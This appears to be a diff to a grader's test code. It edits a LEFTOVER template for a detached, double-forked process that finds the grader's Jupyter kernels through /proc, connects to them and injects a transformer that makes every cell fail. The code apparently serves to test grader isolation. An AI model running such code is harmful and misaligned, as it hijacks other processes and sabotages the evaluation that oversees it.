@@ -96,6 +96,7 @@ def _score(batch: dict, name: str) -> str:
 LEFTOVER = """\
 import os, sys, time
 EVIDENCE = {evidence!r}
+GRADER = os.getppid()  # only kernels of this grader are attacked (never another process on the machine)
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
@@ -103,7 +104,6 @@ if os.fork() == 0:
             open(EVIDENCE + ".pid", "w").write(str(os.getpid()))
         except OSError:
             pass
-        mine = open("/proc/self/cmdline", "rb").read()
         own = set()
         for pid in os.listdir("/proc"):
             own.add(pid)
@@ -113,8 +113,11 @@ if os.fork() == 0:
                 if not pid.isdigit() or pid in own:
                     continue
                 try:
+                    stat = open(f"/proc/{{pid}}/stat", "rb").read()
                     argv = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
                 except OSError:
+                    continue
+                if int(stat[stat.rfind(b")") + 2:].split()[1]) != GRADER:
                     continue
                 if b"-f" in argv and b"launch_new_instance" in b" ".join(argv):
                     connection = argv[argv.index(b"-f") + 1].decode()
@@ -124,7 +127,8 @@ if os.fork() == 0:
                         client.load_connection_file()
                         client.start_channels()
                         client.execute("get_ipython().input_transformers_post.append("
-                                       "lambda lines: ['raise SystemExit']*bool(lines))")
+                                       "lambda lines: ['1/0' + chr(10)] if lines else lines)")
+                        client.get_shell_msg(timeout=60)
                         open(EVIDENCE, "w").write("connected to " + connection)
                     except Exception as exc:
                         open(EVIDENCE + ".failed", "w").write(repr(exc))
